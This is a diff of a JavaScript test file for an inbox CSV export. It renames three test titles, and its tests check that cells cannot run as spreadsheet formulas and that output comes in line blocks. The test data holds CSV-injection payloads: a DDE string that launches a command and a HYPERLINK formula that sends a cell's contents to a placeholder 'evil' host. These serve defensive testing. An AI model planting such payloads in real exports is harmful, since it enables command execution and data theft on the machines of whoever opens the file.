@@ -23,13 +23,13 @@ describe('the inbox as CSV', () => {
     ])
   })
 
-  it('lets no cell be run as a formula (T21)', () => {
+  it('contains no cell that runs as a formula (T21)', () => {
     const feed = memoryFeed()
     feed.add([arrival({ ...SIGNED, actor: '=HYPERLINK("http://x")' })])
     expect([...inboxCsv(feed.all())].join('')).toContain(`"'=HYPERLINK(""http://x"")"`)
   })
 
-  it('lets no cell be run where the list separator is a semicolon, as in most of Europe (T21)', () => {
+  it('contains none where the list separator is a semicolon either, as in most of Europe (T21)', () => {
     const feed = memoryFeed()
     feed.add([
       arrival({ ...SIGNED, actor: `P;=1+cmd|'/C calc'!A0;x`, actorCompany: 'x;"=HYPERLINK("http://evil/"&A1)' }),
@@ -40,7 +40,7 @@ describe('the inbox as CSV', () => {
     expect(rows.flat().length).toBeGreaterThan(4)
   })
 
-  it('gives any number of entries some lines at a time', () => {
+  it('yields any number of entries in blocks of lines', () => {
     const feed = memoryFeed()
     feed.add(Array.from({ length: 1_100 }, (_, at) => arrival(`no message ${at}`)))
     expect([...inboxCsv(feed.all())].map((block) => block.trimEnd().split('\r\n').length)).toEqual([1, 500, 500, 100])
